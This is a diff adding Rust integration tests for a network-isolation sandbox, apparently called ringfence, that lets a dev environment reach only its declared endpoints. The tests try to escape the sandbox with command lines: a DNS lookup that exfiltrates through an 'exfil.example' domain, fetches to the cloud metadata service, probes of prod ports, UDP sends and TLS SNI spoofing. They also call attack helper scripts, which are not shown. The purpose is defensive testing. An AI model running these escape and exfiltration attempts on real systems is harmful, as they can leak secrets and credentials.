@@ -1,0 +1,279 @@
+//! What can be reached: the environment's own endpoints by name and port, and nothing else.
+
+use crate::ground::scenario;
+use crate::oracle::Oracle;
+use crate::scene::{Outcome, SECRET, Scene};
+use crate::server::{Postgres, redis, visits};
+
+/// What a program says of an address that is not there.
+const UNREACHABLE: &[&str] = &[
+    "unreachable",
+    "refused",
+    "Couldn't connect",
+    "Failed to connect",
+    "Could not connect",
+    "ENETUNREACH",
+    "ECONNREFUSED",
+];
+
+/// Scenario 1: the declared database just works, under its own name; its server sees the host as the client.
+#[test]
+fn s01_the_declared_database_works_by_name() {
+    scenario(&["postgres"], |scene| {
+        let server = Postgres::at(scene, "10.10.0.5", 5432);
+        let ask = "PGCONNECT_TIMEOUT=5 psql -h db -p 5432 -U app -d app -Atc 'select 7700 + 31'";
+        assert_eq!(scene.plain(ask).succeeded().stdout, "7731\n");
+        let count = |log: &str| log.matches("connection received: host=10.10.0.5").count();
+        let before = count(&server.log());
+        assert_eq!(scene.inside(ask).succeeded().stdout, "7731\n");
+        assert_eq!(count(&server.log()), before + 1, "{}", server.log());
+        let by_setting = "PGCONNECT_TIMEOUT=5 psql \"$DB_URL\" -Atc 'select 7700 + 31'";
+        assert_eq!(scene.inside(by_setting).succeeded().stdout, "7731\n");
+    });
+}
+
+/// Scenario 2: prod's Redis on the host's loopback is not there.
+#[test]
+fn s02_a_port_of_the_hosts_loopback_is_refused() {
+    scenario(&["redis"], |scene| {
+        let _server = redis(scene, "127.0.0.1", 6391, SECRET);
+        scene.hidden("redis-cli -h 127.0.0.1 -p 6391 get who", UNREACHABLE);
+        let before = visits(scene, "127.0.0.1", 6391);
+        scene.shows_nothing("redis-cli -h localhost -p 6391 get who", UNREACHABLE);
+        scene.shows_nothing("redis-cli -h 10.20.0.5 -p 6391 get who", UNREACHABLE);
+        assert_eq!(
+            visits(scene, "127.0.0.1", 6391),
+            before + 1,
+            "only the one that counts"
+        );
+    });
+}
+
+/// Scenario 3: a declared host on another port is refused, under its name and its number.
+#[test]
+fn s03_another_port_of_a_declared_host_is_refused() {
+    scenario(&["redis"], |scene| {
+        let _dev = redis(scene, "10.10.0.5", 6379, "dev");
+        let _prod = redis(scene, "10.10.0.5", 6391, SECRET);
+        let own = "redis-cli -h 10.10.0.5 -p 6379 get who";
+        assert_eq!(scene.inside(own).succeeded().stdout, "dev\n");
+        for host in ["10.10.0.5", "db"] {
+            scene.hidden(&format!("redis-cli -h {host} -p 6391 get who"), UNREACHABLE);
+        }
+        let given = "redis-cli -h $(getent hosts db | cut -d' ' -f1) -p 6391 get who";
+        scene.shows_nothing(given, UNREACHABLE);
+    });
+}
+
+/// What `curl` shows of `url`, and how long it took in milliseconds, at best.
+fn fetched(run: impl Fn(&str) -> Outcome, url: &str) -> (Outcome, f64) {
+    let script = format!("curl -sS -g -m 2 -w '\\n%{{time_total}}' '{url}'");
+    let attempts: Vec<(Outcome, f64)> = (0..5)
+        .map(|_| run(&script))
+        .map(|outcome| {
+            let seconds = outcome.stdout.lines().last().unwrap_or("9").parse();
+            (outcome, seconds.unwrap_or(9.0) * 1000.0)
+        })
+        .collect();
+    let best = attempts.into_iter().min_by(|a, b| a.1.total_cmp(&b.1));
+    best.unwrap()
+}
+
+/// The address answers plainly; inside it is unreachable at once, and nobody came.
+fn unreachable_at_once(scene: &Scene, address: &str, url: &str) {
+    let oracle = Oracle::http(address);
+    let (plain, _) = fetched(|script| scene.plain(script), url);
+    assert!(plain.stdout.contains(SECRET), "{plain:?}");
+    let before = oracle.visits();
+    let (outcome, time_ms) = fetched(|script| scene.inside(script), url);
+    assert!(!outcome.stdout.contains(SECRET), "{outcome:?}");
+    outcome.failed(UNREACHABLE);
+    assert!(time_ms < 50.0, "at once, not after {time_ms} ms");
+    assert_eq!(oracle.visits(), before);
+}
+
+/// Scenario 4: the metadata service.
+#[test]
+fn s04_the_metadata_service_is_unreachable_at_once() {
+    scenario(&["curl"], |scene| {
+        let port = 80;
+        let url = format!("http://169.254.169.254:{port}/");
+        unreachable_at_once(scene, &format!("169.254.169.254:{port}"), &url);
+    });
+}
+
+/// Scenario 5: the metadata service over IPv6.
+#[test]
+fn s05_the_metadata_service_is_unreachable_over_ipv6() {
+    scenario(&["curl"], |scene| {
+        let port = 80;
+        let url = format!("http://[fd00:ec2::254]:{port}/");
+        unreachable_at_once(scene, &format!("[fd00:ec2::254]:{port}"), &url);
+    });
+}
+
+/// Prod's own address and one of the internet, which no setting of dev names.
+#[test]
+fn an_undeclared_address_is_unreachable() {
+    scenario(&["curl"], |scene| {
+        let port = 5432;
+        for host in ["10.20.0.5", "192.0.2.1", "8.8.8.8"] {
+            unreachable_at_once(
+                scene,
+                &format!("{host}:{port}"),
+                &format!("http://{host}:{port}/"),
+            );
+        }
+    });
+}
+
+/// Scenario 6: datagrams arrive nowhere.
+#[test]
+fn s06_datagrams_arrive_nowhere() {
+    scenario(&["python3"], |scene| {
+        let port = 5300;
+        for host in ["127.0.0.1", "10.20.0.5", "10.10.0.5"] {
+            let oracle = Oracle::udp(&format!("{host}:{port}"));
+            let send = format!("/usr/bin/python3 attacks/network.py udp {host} {port}");
+            let words = [UNREACHABLE, &["timed out"]].concat();
+            let before = oracle.visits();
+            scene.hidden(&send, &words);
+            assert_eq!(oracle.visits(), before + 1, "only the control's");
+        }
+    });
+}
+
+/// Scenario 7: no echo request leaves.
+#[test]
+fn s07_ping_fails() {
+    scenario(&["ping"], |scene| {
+        let words = [UNREACHABLE, &["not permitted", "100% packet loss"]].concat();
+        scene.repelled("ping -n -c1 -W1 192.0.2.1", &words);
+    });
+}
+
+/// Scenario 8: a name that carries something out reaches no resolver, neither the host's nor one of the attacker's choice.
+#[test]
+fn s08_names_carry_nothing_out() {
+    scenario(&["dig", "getent"], |scene| {
+        let resolver = Oracle::dns();
+        let asked = |word: &str| resolver.names().iter().any(|name| name.contains(word));
+        let dig = |word: &str| {
+            format!("dig +tries=1 +time=1 +noall +answer {word}.exfil.example @8.8.8.8")
+        };
+        scene.plain(&dig("plain-dig")).succeeded();
+        scene
+            .plain("getent ahostsv4 plain-libc.exfil.example")
+            .succeeded();
+        assert!(
+            asked("plain-dig") && asked("plain-libc"),
+            "{:?}",
+            resolver.names()
+        );
+        scene.inside(&dig("secret-dig")).failed(&[
+            "unreachable",
+            "timed out",
+            "no servers could be reached",
+            "refused",
+        ]);
+        let timed = "start=$(date +%s%N); getent ahostsv4 secret-libc.exfil.example && echo FOUND; echo $((($(date +%s%N) - start) / 1000000))";
+        let best_ms = (0..3).map(|_| scene.inside(timed)).map(|outcome| {
+            assert!(!outcome.stdout.contains("FOUND"), "{outcome:?}");
+            outcome.told(&["secret-libc.exfil.example"]);
+            outcome.stdout.trim().parse::<u32>().unwrap()
+        });
+        let best_ms = best_ms.min().unwrap();
+        assert!(
+            best_ms < 100,
+            "a name fails at once, not after {best_ms} ms"
+        );
+        let own = scene.inside("dig +tries=1 +time=1 secret-own.exfil.example");
+        assert!(own.stdout.contains("NXDOMAIN"), "{own:?}");
+        assert!(!asked("secret"), "{:?}", resolver.names());
+    });
+}
+
+/// Scenario 38: a name that only prod declares is unknown, and the refusal says whose it is and how to allow it.
+#[test]
+fn s38_a_name_of_prod_is_unknown_and_logged() {
+    scenario(&["dig", "getent"], |scene| {
+        let resolver = Oracle::dns();
+        let look = "getent hosts api.prod.internal";
+        assert!(scene.plain(look).succeeded().stdout.contains("10.20.0.5"));
+        let asked = resolver.visits();
+        let outcome = scene.inside(look);
+        assert_eq!(
+            (outcome.code, outcome.stdout.as_str()),
+            (Some(2), ""),
+            "{outcome:?}"
+        );
+        outcome.told(&["api.prod.internal", "belongs to prod"]);
+        let last = outcome.stderr.lines().last().unwrap();
+        let summary = last.starts_with("ringfence: ") && last.contains(" refusal");
+        assert!(summary && last.contains("api.prod.internal"), "{outcome:?}");
+        let dig = scene.inside("dig +tries=1 +time=1 api.prod.internal");
+        assert!(dig.stdout.contains("NXDOMAIN"), "{dig:?}");
+        let own = scene.inside("dig +short +tries=1 +time=1 db").succeeded();
+        assert!(
+            own.stdout.starts_with("127.77."),
+            "a declared name is known: {own:?}"
+        );
+        assert_eq!(resolver.visits(), asked, "{:?}", resolver.names());
+    });
+}
+
+/// A balancer for dev's and prod's TLS at one address.
+fn balancer(scene: &Scene) -> crate::scene::Running {
+    let make = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=x -keyout ../key -out ../cert -days 2";
+    scene.plain(make).succeeded();
+    let serve = "exec openssl s_server -accept 10.30.0.5:443 -cert ../cert -key ../key -www -quiet";
+    let server = scene.spawn(&["sh", "-c", serve]);
+    let ready = "curl -sk https://10.30.0.5/ -o /dev/null";
+    crate::scene::eventually("TLS", || scene.plain(ready).code == Some(0));
+    server
+}
+
+/// Scenario 39: behind an address that dev and prod share, the name in the handshake decides.
+#[test]
+fn s39_prods_name_in_a_handshake_is_reset() {
+    scenario(&["curl", "openssl", "python3"], |scene| {
+        let _server = balancer(scene);
+        let own = "curl -ksS -m 5 -o /dev/null https://tls.dev.internal/";
+        scene.plain(own).succeeded();
+        scene.inside(own).succeeded();
+        let other = "address=$(getent hosts tls.dev.internal | cut -d' ' -f1); \
+             curl -ksS -m 5 -o /dev/null --resolve tls.prod.internal:443:$address https://tls.prod.internal/";
+        let reset = &["reset", "SSL_ERROR_SYSCALL", "unexpected eof"];
+        scene.plain(other).succeeded();
+        scene
+            .inside(other)
+            .failed(reset)
+            .told(&["tls.prod.internal", "belongs to prod"]);
+        let handshake = "/usr/bin/python3 attacks/tls.py tls.dev.internal";
+        assert_eq!(
+            scene.inside(&format!("{handshake} plain")).stdout,
+            "answered\n"
+        );
+        assert_eq!(
+            scene.plain(&format!("{handshake} ech")).stdout,
+            "answered\n"
+        );
+        scene
+            .inside(&format!("{handshake} ech"))
+            .failed(&["reset", "closed"]);
+    });
+}
+
+/// The plan can be read without starting anything, and names what will be reachable.
+#[test]
+fn the_plan_is_explained_and_nothing_starts() {
+    scenario(&[], |scene| {
+        let outcome = scene.ringfence(&["run", "dev", "--explain", "--", "touch", "started"]);
+        let told = format!("{}{}", outcome.stdout, outcome.stderr);
+        assert!(!scene.path("started").exists());
+        for word in ["db:5432", "10.10.0.5:6379", ":8081", ".env.prod"] {
+            assert!(told.contains(word), "{word}: {outcome:?}");
+        }
+        assert!(!told.contains(SECRET) && !told.contains("pw@"), "{told}");
+    });
+}
